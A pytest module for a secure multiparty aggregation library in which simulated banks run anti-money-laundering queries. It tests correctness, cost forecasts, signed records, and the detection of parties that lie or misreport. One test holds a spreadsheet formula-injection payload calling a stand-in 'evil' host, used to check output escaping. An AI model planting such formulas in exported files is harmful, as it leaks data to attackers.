"""A job's parties, in the simulator and over TLS: what they find, what it costs, what they keep.

The module is long because one job and its tables serve every claim about a run.
"""

from __future__ import annotations

import csv
import functools
import json
import stat
from collections.abc import Callable, Sequence
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from functools import partial
from pathlib import Path
from typing import Any, cast

import numpy as np
import pytest

from benchmarks.alterations import Liar, altered, leaves
from secagg import release
from secagg.cli.job_shown import expected_seconds
from secagg.cost.network import LAN, WAN
from secagg.errors import (
    AbortedError,
    AuthenticationError,
    CheatingError,
    DataError,
    EmptyTableError,
    JobError,
    PeerMissingError,
    PeerVanishedError,
    PlanError,
    RangeError,
    SecaggError,
    UsageError,
)
from secagg.files import file_digest
from secagg.jobs.job import Job, Member, Window
from secagg.jobs.local import free_addresses
from secagg.jobs.output import Output
from secagg.jobs.record import PartyResult, write_record
from secagg.jobs.record import _error as failure
from secagg.jobs.run import Part, Progress, phases, run_job
from secagg.jobs.signature import read_record, verify_record, with_private_part
from secagg.jobs.spreadsheet import text_of
from secagg.network.identity import Identity, create_identity
from secagg.network.simulated import Outcome, simulate
from secagg.network.tcp import Timeouts
from secagg.party import UNKNOWN, aborted
from secagg.patterns.banking import COLLECTORS, STRUCTURING
from secagg.patterns.group_by import GroupByPattern
from secagg.patterns.pattern import Result, Tables
from secagg.patterns.registry import find
from secagg.protocols import group_by
from secagg.protocols.group_by import Rows
from secagg.protocols.pseudonyms import digest_of_contribution

PATTERNS: dict[str, GroupByPattern] = {"collectors": COLLECTORS, "structuring": STRUCTURING}
SMALL = {
    "collectors": {"min_senders": 3, "min_banks": 2, "min_total_cents": 50_000},
    "structuring": {"limit_cents": 100_000},
}
LAYOUTS = {
    "three banks compute": ("abc", "abc"),
    "two banks and an outsider compute": ("ab", "abx"),
    "five banks, three outsiders compute": ("abcde", "xyz"),
    "five banks, three of them compute": ("abcde", "bde"),
    "three banks and an outsider compute, of whom one may lie": ("abc", "abcx"),
    "two banks, four outsiders compute": ("ab", "wxyz"),
}


def make_job(pattern: str, layout: str = "three banks compute", **parameters: int) -> Job:
    inputs, computing = (tuple(f"bank_{letter}" for letter in part) for part in LAYOUTS[layout])
    installed = find(pattern)
    return Job(
        name="test",
        installed=installed,
        parameters=installed.pattern.Parameters(**{**SMALL[pattern], **parameters}),
        window=Window(),
        members=tuple(Member(name, ("127.0.0.1", 1), None) for name in dict.fromkeys((*inputs, *computing))),
        roles={"input": inputs, "computing": computing},
        pad_rows_to=1,
        approval="off",
        timeouts=Timeouts(connect_s=20, silence_s=10, message_s=20),
    )


def make_table(pattern: str, seed: int, rows: int, names: int = 40) -> Tables:
    rng = np.random.default_rng(seed)

    def some(prefix: str, count: int) -> Any:
        drawn = np.empty(rows, object)
        drawn[:] = [f"{prefix}-{i}" for i in rng.integers(0, count, rows)]
        return drawn

    if pattern == "collectors":
        accounts = {"beneficiary": some("ACC", names), "sender": some(f"CUSTOMER{seed}", 30)}
        return {"transfers": {**accounts, "amount": rng.integers(1, 40_000, rows)}}
    return {"deposits": {"customer": some("PERSON", names), "amount": rng.integers(1, 60_000, rows)}}


def identifiers(tables: Tables) -> set[str]:
    (table,) = tables.values()
    return set(next(iter(table.values())))


def make_tables(job: Job, rows: Sequence[int]) -> dict[str, Tables]:
    return {
        name: make_table(job.pattern.name, seed, n)
        for seed, (name, n) in enumerate(zip(job.input_parties, rows, strict=True))
    }


def simulate_job(job: Job, tables: dict[str, Tables]) -> tuple[dict[str, Part], Outcome[Result | None]]:
    parts = {
        name: Part(job, name, partial(tables.__getitem__, name) if name in tables else None)
        for name in job.roster
    }
    return parts, simulate(parts)


def check_equal_to_plaintext(job: Job, tables: dict[str, Tables], told: dict[str, list[Any]]) -> int:
    """Compare what each input party was told with the reference in the clear; return how much there was to find."""
    pooled = PATTERNS[job.pattern.name].flagged(job.parameters, tables)
    for name, own in tables.items():
        expected = {(n, *sums) for n, sums in pooled.items() if n in identifiers(own)}
        assert set(told[name]) == expected
        assert len(told[name]) == len(expected)
    assert told == job.pattern.reference(job.parameters, job.terms, tables)
    return len(pooled)


SIZES = [(120, 90, 60, 40, 20), (150, 0, 150, 1, 30), (0, 1, 0, 0, 0)]
# Each pattern and each layout with the second sizes, whose cost is forecast; each layout once more with each other ones.
RUNS = [
    (pattern, layout, sizes)
    for i, sizes in enumerate(SIZES)
    for j, layout in enumerate(LAYOUTS)
    for k, pattern in enumerate(PATTERNS)
    if i == 1 or (i + j) % 2 == k
]


@functools.cache
def ran(
    pattern: str, layout: str, sizes: tuple[int, ...]
) -> tuple[Job, dict[str, Tables], dict[str, Part], Outcome[Result | None]]:
    """Run a job on tables of these sizes; several tests look at one run."""
    job = make_job(pattern, layout)
    tables = make_tables(job, sizes[: len(job.input_parties)])
    parts, outcome = simulate_job(job, tables)
    outcome.values()
    return job, tables, parts, outcome


@pytest.mark.slow
@pytest.mark.parametrize(("pattern", "layout", "sizes"), RUNS)
def test_every_bank_is_told_what_the_plaintext_says_about_its_rows(
    pattern: str, layout: str, sizes: tuple[int, ...]
) -> None:
    job, tables, parts, outcome = ran(pattern, layout, sizes)
    told = {}
    for name in job.roster:
        contribution, result = parts[name].contribution, outcome.results[name]
        assert (contribution is None) == (result is None) == (name not in job.input_parties)
        if result is not None:
            told[name] = list(result)
    found = check_equal_to_plaintext(job, tables, told)
    assert found > 0 or min(sizes) < 20  # the first sizes leave something to find


@pytest.mark.slow
@pytest.mark.parametrize("pattern", PATTERNS)
@pytest.mark.parametrize("layout", LAYOUTS)
def test_the_forecast_is_what_the_ledgers_show(pattern: str, layout: str) -> None:
    """With four computing parties but for a word a round, by which one party may send more than another."""
    job, _, parts, outcome = ran(pattern, layout, SIZES[1])
    counts = {name: part.contribution.rows for name, part in parts.items() if part.contribution is not None}
    expected = job.cost(counts)
    for name in job.roster:
        assert parts[name].counts == counts
        assert parts[name].forecast == expected
        sent = outcome.ledgers[name].total().sent.payload_bytes
        off = 8 * expected.rounds if len(job.computing_parties) == 4 else 0
        assert abs(sent - expected.payload_bytes[name]) <= off
    rounds = max(ledger.total().rounds for ledger in outcome.ledgers.values())
    # Where two input parties both compute among three, the third is a step ahead.
    assert expected.rounds - rounds in ((0, 1) if layout == "two banks and an outsider compute" else (0,))


def test_the_cost_of_the_same_rows_is_worked_out_once_and_that_of_others_anew(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    asked: list[Any] = []
    declared = GroupByPattern.cost

    def cost(pattern: Any, parameters: Any, terms: Any, rows: Any) -> Any:
        asked.append(dict(rows))
        return declared(pattern, parameters, terms, rows)

    monkeypatch.setattr(GroupByPattern, "cost", cost)
    job = make_job("collectors")
    few, many = (dict.fromkeys(job.input_parties, n) for n in (10, 1000))
    first = job.cost(few)
    assert job.cost(dict(reversed(few.items()))) == first != job.cost(many)
    assert asked == [few, many]
    assert replace(job, name="other").cost(few) == first
    assert asked == [few, many, few]  # another job's is its own


def test_a_job_says_whom_it_trusts_by_how_many_compute() -> None:
    three, four = (
        make_job("collectors", layout)
        for layout in ("three banks compute", "three banks and an outsider compute, of whom one may lie")
    )
    assert "taken to follow the protocol" in three.trust()
    assert "A computing party that lies is not caught" in three.trust()
    assert "One of the four computing parties may lie" in four.trust()
    assert "the error names two parties, one of which lied" in four.trust()
    assert "not caught" not in four.trust()


def test_a_forecast_takes_longer_on_a_slower_network_and_with_more_rows() -> None:
    job = make_job("collectors")
    few, many = (job.cost(dict.fromkeys(job.input_parties, n)) for n in (1000, 100_000))
    assert expected_seconds(few, LAN) < expected_seconds(few, WAN) < expected_seconds(many, WAN)
    assert expected_seconds(few, WAN) > few.rounds * WAN.latency_s


@pytest.mark.slow
def test_row_counts_are_announced_rounded_up_as_agreed() -> None:
    job = replace(make_job("structuring"), pad_rows_to=50)
    parts, outcome = simulate_job(job, make_tables(job, (120, 0, 5)))
    outcome.values()
    assert parts["bank_a"].counts == {"bank_a": 50, "bank_b": 0, "bank_c": 50}


def test_more_rows_than_the_job_allows_are_refused_by_their_owner_and_by_a_forecast() -> None:
    job = replace(make_job("structuring"), max_rows=20)
    _, outcome = simulate_job(job, make_tables(job, (10, 200, 10)))
    assert isinstance(outcome.errors["bank_b"], RangeError)
    assert "max_rows of 20" in str(outcome.errors["bank_b"])
    assert "rows" not in str(outcome.errors["bank_a"])
    with pytest.raises(PlanError, match="bank_c with 21 rows is above max_rows, which is 20"):
        job.cost({"bank_a": 20, "bank_b": 0, "bank_c": 21})


@pytest.mark.parametrize("told", [10, 0, 10**9, -5])
def test_a_bank_cannot_announce_one_number_of_rows_and_put_in_another(told: int) -> None:
    """What everybody's record says is what was computed on, and more is no list of so many rows."""
    job = make_job("collectors", "two banks and an outsider compute")
    tables = make_tables(job, (300, 2000))

    async def hostile(party: Any) -> Any:
        announced = group_by.announcement
        rows = COLLECTORS.group_rows(job.parameters, tables["bank_b"])
        salt, contribution = party.rng.bytes(32), party.rng.bytes(32)
        mine = announced.Announcement(
            told,
            group_by.commitment(rows, salt, session=party.session, owner=party.me),
            digest_of_contribution(party.session, party.me, contribution),
        )
        party.broadcast(mine)
        theirs = await party.gather(announced.Announcement, ("bank_a",))
        told_of = {"bank_a": theirs["bank_a"], "bank_b": mine}
        if told >= 0:
            party.broadcast(
                announced.Heard(tuple(announced._digest(party.session, n, a) for n, a in told_of.items()))
            )
        await party.gather(announced.Heard, party.others)
        counts = {n: a.rows for n, a in told_of.items()}
        everything = group_by.Announced(
            counts,
            {n: a.commitment for n, a in told_of.items()},
            {n: a.contribution for n, a in told_of.items()},
            rows,
            salt,
            contribution,
        )
        return await group_by.find_announced(party, COLLECTORS.query(job.parameters, job.terms), everything)

    parts: dict[str, Any] = {
        "bank_a": Part(job, "bank_a", lambda: tables["bank_a"]), "bank_x": Part(job, "bank_x", None),
    }  # fmt: skip
    outcome = simulate({"bank_a": parts["bank_a"], "bank_b": hostile, "bank_x": parts["bank_x"]})
    assert not outcome.results
    known = {"bank_a": len(identifiers(tables["bank_a"])), "bank_b": told} if 0 <= told < 10**7 else {}
    for name, part in parts.items():
        assert part.counts == known
        assert getattr(outcome.errors[name], "peer", None) == "bank_b", outcome.errors[name]
    # Forty rows fit the places of ten, and by luck those of none: then it is found on shares.
    if told:
        assert ("more rows than announced" in str(outcome.errors["bank_x"])) == (told == 10)


@pytest.mark.slow
def test_an_auditor_recomputes_the_commitment_from_the_table_in_any_order() -> None:
    job = make_job("collectors")
    tables = make_tables(job, (50, 60, 70))
    parts, outcome = simulate_job(job, tables)
    outcome.values()
    announced = {name: part.agreed.state for name, part in parts.items() if part.agreed is not None}
    commitments = {name: each.commitments for name, each in announced.items()}
    assert len(commitments) == 3
    assert all(each == commitments["bank_a"] for each in commitments.values())
    for name, own in tables.items():
        columns = own["transfers"]
        order = np.random.default_rng(1).permutation(len(columns["amount"]))
        shuffled = {"transfers": {role: column[order] for role, column in columns.items()}}
        rows = COLLECTORS.group_rows(job.parameters, shuffled).by_identifier()
        salt = announced[name].salt
        about: dict[str, Any] = {"session": parts[name].session, "owner": name}
        assert group_by.commitment(rows, salt, **about) == commitments["bank_a"][name]
        changed = Rows(rows.identifiers, rows.values + np.eye(*rows.values.shape, dtype=np.uint64))
        assert group_by.commitment(changed, salt, **about) != commitments["bank_a"][name]


def test_amounts_with_cents_up_to_a_billion_add_up_exactly() -> None:
    job = make_job("collectors", min_senders=1)
    tables: dict[str, Tables] = {
        name: {
            "transfers": {
                "beneficiary": np.array(["x", "y"], object),
                "sender": np.array(["s", "t"], object),
                "amount": np.array([10**11 - 1, i]),
            }
        }
        for i, name in enumerate(job.input_parties)
    }
    _, outcome = simulate_job(job, tables)
    outcome.values()
    assert outcome.results["bank_b"] == [("x", 3, 3 * 10**11 - 3)]


def test_all_are_told_whose_table_has_no_row_that_counts_and_nothing_more() -> None:
    job = make_job("collectors")
    tables = make_tables(job, (10, 10, 10))

    def read() -> Tables:
        raise EmptyTableError("secret.csv: no row counts; the table's times run from 1 to 2")

    parts = {name: Part(job, name, partial(tables.__getitem__, name)) for name in job.roster}
    parts["bank_b"] = Part(job, "bank_b", read)
    outcome = simulate(parts)
    for name in ("bank_a", "bank_c"):
        assert "bank_b ended the run: no row of its table counts" in str(outcome.errors[name])
        assert "secret" not in str(outcome.errors[name])
        assert "run from" not in str(outcome.errors[name])


def test_data_that_cannot_be_used_ends_the_run_and_only_its_owner_learns_why() -> None:
    job = make_job("collectors")
    tables = make_tables(job, (10, 10, 10))

    def read() -> Tables:
        raise DataError("secret.csv:7: amount is negative")

    parts = {name: Part(job, name, partial(tables.__getitem__, name)) for name in job.roster}
    parts["bank_b"] = Part(job, "bank_b", read)
    outcome = simulate(parts)
    assert str(outcome.errors["bank_b"]) == "secret.csv:7: amount is negative"
    for name in job.roster:
        if name != "bank_b":
            assert "bank_b ended the run: it cannot use its own input" in str(outcome.errors[name])
            assert "secret" not in str(outcome.errors[name])
        assert outcome.ledgers[name].total().sent.payload_bytes == 0


def test_values_above_what_was_agreed_are_refused_without_telling_the_others_how_many() -> None:
    job = make_job("collectors", max_senders_per_bank=3)
    _, outcome = simulate_job(job, make_tables(job, (10, 200, 10)))
    assert isinstance(outcome.errors["bank_b"], RangeError)
    assert isinstance(outcome.errors["bank_a"], AbortedError)
    assert "rows" not in str(outcome.errors["bank_a"])


def test_data_comes_from_input_parties_and_from_nobody_else() -> None:
    job = make_job("collectors", "two banks and an outsider compute")
    with pytest.raises(UsageError, match="bank_a gives none"):
        Part(job, "bank_a", None)
    with pytest.raises(UsageError, match="bank_x gives some"):
        Part(job, "bank_x", dict)
    with pytest.raises(UsageError, match="bank_q takes no part"):
        Part(job, "bank_q", None)


def test_what_is_opened_is_named_for_every_party() -> None:
    job = make_job("collectors", "two banks and an outsider compute")
    opened = job.disclosures()
    assert {name for d in opened for name in d.to if d.each_its_own} == {"bank_a", "bank_b"}
    assert all(set(d.to) <= set(job.roster) for d in opened)
    assert "senders and total" in opened[-1].what


# Over TLS, the parties in threads of this process.


def settle(job: Job) -> tuple[Job, dict[str, Identity]]:
    identities = {name: create_identity(name) for name in job.roster}
    addresses = dict(zip(job.roster, free_addresses(len(job.roster)), strict=True))
    return job.moved(addresses, {n: i.certificate for n, i in identities.items()}), identities


def run_all(calls: dict[str, Callable[[], Any]]) -> dict[str, Any]:
    """Return what each party's call returned or raised."""
    with ThreadPoolExecutor(len(calls)) as pool:
        futures = {name: pool.submit(call) for name, call in calls.items()}
        return {name: f.exception(timeout=240) or f.result() for name, f in futures.items()}


@pytest.mark.slow
def test_a_run_over_tls_leaves_results_and_records(tmp_path: Path) -> None:
    job, identities = settle(make_job("collectors", "two banks and an outsider compute"))
    tables = make_tables(job, (300, 200))
    seen: list[Progress] = []

    def take_part(name: str) -> Any:
        read = (lambda: tables[name]) if name in tables else None
        progress = seen.append if name == "bank_a" else None
        return run_job(job, me=name, identity=identities[name], read=read, on_progress=progress)

    results = run_all({name: partial(take_part, name) for name in job.roster})
    found = check_equal_to_plaintext(job, tables, {name: results[name].rows for name in tables})
    assert found > 3

    for name in job.roster:
        output = Output.probe(tmp_path, me=name, job="test")
        table, record_file = results[name].write(output, identities[name])
        shared = read_record(record_file)
        assert verify_record(shared, identities[name].certificate)
        private = tmp_path / f"{name}.test.private.json"
        assert stat.S_IMODE(private.stat().st_mode) == 0o600
        assert shared["private"] == {"file": private.name, "sha256": file_digest(private)}
        assert len(bytes.fromhex(json.loads(private.read_text())["salt"])) == 32
        assert not {"agreed_private", "result_rows", "tables", "result", "salt"} & shared.keys()
        if table is not None:  # a guess of the table cannot be tested with what is shared
            assert file_digest(table) not in record_file.read_text()
        record = with_private_part(shared, record_file)
        assert (record["outcome"], record["reached"], record["error"]) == ("complete", "open", None)
        assert record_file.name == f"{name}.test.json"
        assert record["digest"] == job.digest.hex()
        assert record["session"] == json.loads(json.dumps(results["bank_x"].record))["session"]
        assert record["parameters"]["min_total"] == "500.00"
        assert record["announced_rows"] == {bank: len(identifiers(tables[bank])) for bank in tables}
        assert record["max_rows"] == 10_000_000
        origin = {"distribution": "secagg", "version": release.RELEASE, "module_sha256": ""}
        assert record["pattern"] == {"name": "collectors", **origin}
        assert record["risks"].keys() == {"log2_false_match", "log2_abort"}
        if name in tables:
            rows = COLLECTORS.group_rows(job.parameters, tables[name]).by_identifier()
            salt, session = map(
                bytes.fromhex, (record["agreed_private"]["commitment_salt"], record["session"])
            )
            committed = group_by.commitment(rows, salt, session=session, owner=name)
            for bank in job.roster:
                assert results[bank].record["agreed"]["commitments"][name] == committed.hex()
        else:
            assert record["agreed_private"] == {}
        assert record["versions"]["numpy"] == np.__version__
        assert set(record["ledger"]["phases"]) >= {"read", "agree"}
        assert [p["name"] for p in record["parties"]] == list(job.roster)
        text = record_file.read_text()
        assert "ACC-" not in text
        assert "CUSTOMER" not in text
        if name not in tables:
            assert table is None
            assert record["result_rows"] is None
            continue
        assert table is not None
        assert stat.S_IMODE(table.stat().st_mode) == 0o600
        assert record["result"] == {"file": table.name, "sha256": file_digest(table)}
        assert record["result_rows"] == len(results[name].rows)
        with table.open(newline="") as file:
            head, *lines = list(csv.reader(file))
        assert head == list(job.pattern.results)
        assert [(n, int(s), round(float(t) * 100)) for n, s, t in lines] == list(results[name].rows)
        assert all(t[-3] == "." for *_, t in lines)
        # No joint total either, as cents or as units.
        for *_, total in lines:
            assert total not in text
            assert f" {total.replace('.', '')}" not in text
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "bank_a.test.csv", "bank_a.test.json", "bank_a.test.private.json",
        "bank_b.test.csv", "bank_b.test.json", "bank_b.test.private.json",
        "bank_x.test.json", "bank_x.test.private.json",
    ]  # fmt: skip

    reached = [phases(job).index(progress.phase) for progress in seen]
    shares = [progress.share for progress in seen]
    assert reached[0] == 0
    assert reached == sorted(reached)
    assert shares == sorted(shares)
    assert 0.9 < shares[-1] <= 1
    assert seen[0].waiting_for == ("bank_b", "bank_x")


def test_identifiers_that_are_formulas_are_written_so_that_no_spreadsheet_runs_them(tmp_path: Path) -> None:
    job, identities = settle(make_job("structuring"))
    rows = [('=HYPERLINK("http://evil/?"&B2,"open")', 2, 150_000), ("-5", 3, 7)]
    output = Output.probe(tmp_path, me="bank_a", job="test")
    table, _ = PartyResult("bank_a", job, job.pattern.results, rows, {}).write(output, identities["bank_a"])
    assert table is not None
    lines = list(csv.reader(table.read_text().splitlines()))
    assert lines[1:] == [["'" + rows[0][0], "2", "1500.00"], ["-5", "3", "0.07"]]
    assert text_of(lines[1][0]) == rows[0][0]


def refused(
    change: Callable[[Job, str], Job], identities: dict[str, Identity] | None = None
) -> tuple[dict[str, Any], list[str]]:
    """Run a job that `change` makes another one at some party; return the errors, and who read data."""
    job, own = settle(make_job("collectors"))
    job = replace(job, timeouts=Timeouts(connect_s=3, silence_s=5, message_s=5))
    tables = make_tables(job, (20, 20, 20))
    readers: list[str] = []

    def take_part(name: str) -> Any:
        def read() -> Tables:
            readers.append(name)
            return tables[name]

        identity = (identities or own)[name]
        return run_job(change(job, name), me=name, identity=identity, read=read)

    return run_all({name: partial(take_part, name) for name in job.roster}), readers


@pytest.mark.slow
def test_a_job_that_differs_at_one_party_is_refused_before_anybody_reads_data() -> None:
    def change(job: Job, name: str) -> Job:
        if name != "bank_c":
            return job
        return replace(job, parameters=job.pattern.Parameters(**{**SMALL["collectors"], "min_senders": 2}))

    errors, readers = refused(change)
    assert readers == []
    assert all(isinstance(e, JobError | AbortedError) for e in errors.values()), errors
    assert any(
        "job differs from this one in parameters.min_senders (fingerprint" in str(e) for e in errors.values()
    )


@pytest.mark.slow
def test_a_wrong_certificate_is_refused_before_anybody_reads_data() -> None:
    stranger = create_identity("bank_c").certificate

    def change(job: Job, name: str) -> Job:
        if name != "bank_a":  # bank_a holds another certificate for bank_c than the one that bank_c presents
            return job
        known = {m.name: m.certificate for m in job.members if m.certificate is not None}
        return job.moved({m.name: m.address for m in job.members}, {**known, "bank_c": stranger})

    errors, readers = refused(change)
    assert readers == []
    assert all(isinstance(e, SecaggError) for e in errors.values())
    # bank_a and bank_c do not meet; bank_b may find first that bank_a's job names another certificate
    assert any(isinstance(e, AuthenticationError | JobError) for e in errors.values()), errors


def test_the_record_of_a_stopped_run_says_so_in_words_and_not_in_pythons() -> None:
    assert failure(KeyboardInterrupt(), "bank_a")["type"] == "stopped"


def test_a_record_keeps_whom_another_party_accuses_apart_from_who_was_seen_ending_the_run() -> None:
    for about, accused in (("bank_b", "bank_b"), ("", ""), (UNKNOWN, "")):
        told = failure(aborted("mallory", about, "bank_b put in what is no list"), "bank_a")
        assert (told["named"], told["accused"]) == ("mallory", accused)
    seen = failure(PeerVanishedError("bank_b is gone", peer="bank_b"), "bank_a")
    assert (seen["named"], seen["accused"]) == ("bank_b", "")


@pytest.mark.slow
@pytest.mark.parametrize("message", [60, -1])
def test_of_four_computing_parties_one_that_lies_ends_the_run_and_the_record_suspects_it(
    message: int,
) -> None:
    """The helper alters what it sends in the merge, and last of all to be opened."""
    job = make_job("collectors", "three banks and an outsider compute, of whom one may lie")
    tables = make_tables(job, (6, 4, 2))
    parts: dict[str, Part] = {}

    def run(number: int | None) -> tuple[Outcome[Any], dict[str, Liar]]:
        wrapped: dict[str, Liar] = {}

        async def take_part(party: Any) -> Any:
            wrapped[party.me] = Liar(party, number if party.me == "bank_x" else None, alter)
            return await parts[party.me](cast(Any, wrapped[party.me]))

        def alter(told: Any) -> Any:
            name, place, _ = next(leaf for leaf in leaves(told) if leaf[2] is not None)
            return altered(told, name, place, "bit", told)

        for name in job.roster:
            parts[name] = Part(job, name, partial(tables.__getitem__, name) if name in tables else None)
        return simulate(dict.fromkeys(job.roster, take_part), insecure_seed=1), wrapped

    honest, wrapped = run(None)
    honest.values()
    count = len(wrapped["bank_x"].sent)
    outcome, _ = run(message % count)
    found = [error for name, error in outcome.errors.items() if isinstance(error, CheatingError)]
    assert found
    for error in found:
        told = failure(error, "bank_a")
        assert "bank_x" in told["suspects"]
        assert len(told["suspects"]) == 2
    if message > 0:
        assert not any(outcome.results.get(name) for name in tables)
    for name in tables:
        assert outcome.results.get(name) in (None, honest.results[name])


@pytest.mark.slow
def test_a_party_that_does_not_come_is_named() -> None:
    job, identities = settle(make_job("collectors"))
    job = replace(job, timeouts=Timeouts(connect_s=4, silence_s=60, message_s=60))

    records: dict[str, dict[str, Any]] = {}

    def take_part(name: str) -> Any:
        def failed(record: dict[str, Any]) -> None:
            records[name] = record

        identity = identities[name]
        return run_job(job, me=name, identity=identity, read=lambda: pytest.fail("read"), on_failure=failed)

    errors = run_all({name: partial(take_part, name) for name in ("bank_a", "bank_b")})
    for name, error in errors.items():
        assert isinstance(error, PeerMissingError)
        assert "bank_c" in str(error)
        record = records[name]
        assert (record["outcome"], record["reached"], record["ledger"]) == ("failed", "connect", None)
        assert record["error"]["message"] == str(error)
        assert record["error"]["named"] in ("bank_c", "bank_a", "bank_b")
    assert "bank_c" in {record["error"]["named"] for record in records.values()}


@pytest.mark.slow
def test_who_gives_up_waiting_ends_nobody_elses_wait_and_may_come_again() -> None:
    job, identities = settle(make_job("structuring", "two banks and an outsider compute"))
    tables = make_tables(job, (20, 20))
    there: list[set[str]] = []

    def take_part(name: str, wait_s: float | None = None) -> Any:
        def seen(progress: Progress) -> None:
            if name == "bank_a" and progress.phase == "connect":
                there.append(set(progress.present))

        read = (lambda: tables[name]) if name in tables else None
        return run_job(job, me=name, identity=identities[name], read=read, wait_s=wait_s, on_progress=seen)

    def impatient_then_patient() -> Any:
        with pytest.raises(PeerMissingError, match=r"not all parties were there within 4 s: bank_x"):
            take_part("bank_b", wait_s=4)
        with ThreadPoolExecutor(1) as pool:
            late = pool.submit(take_part, "bank_x")
            result = take_part("bank_b")
            late.result(timeout=240)
        return result

    results = run_all({"bank_a": lambda: take_part("bank_a"), "bank_b": impatient_then_patient})
    check_equal_to_plaintext(job, tables, {name: results[name].rows for name in tables})
    assert {"bank_b"} in there


@pytest.mark.slow
def test_a_run_that_fails_leaves_a_record_of_how_far_it_came_and_who_is_named(tmp_path: Path) -> None:
    job, identities = settle(make_job("structuring", "two banks and an outsider compute"))
    tables = make_tables(job, (20, 20))
    records: dict[str, dict[str, Any]] = {}

    def read(name: str) -> Tables:
        if name == "bank_b":
            raise DataError("secret.csv:7: amount is negative")
        return tables[name]

    def take_part(name: str) -> Any:
        def failed(record: dict[str, Any]) -> None:
            records[name] = record

        own = (lambda: read(name)) if name in tables else None
        return run_job(job, me=name, identity=identities[name], read=own, on_failure=failed)

    run_all({name: partial(take_part, name) for name in job.roster})
    assert records.keys() == set(job.roster)
    for name, record in records.items():
        assert (record["outcome"], record["reached"], record["opened"]) == ("failed", "read", None)
        assert record["error"]["named"] == "bank_b"
        assert record["digest"] == job.digest.hex()
        assert record["ledger"] is not None
        assert ("secret" in json.dumps(record)) == (name == "bank_b")
        output = Output.probe(tmp_path, me=name, job="test")
        path = write_record(record, output, identities[name], suffix=output.failed_suffix())
        assert verify_record(read_record(path), identities[name].certificate)
    assert len({record["session"] for record in records.values()}) == 1
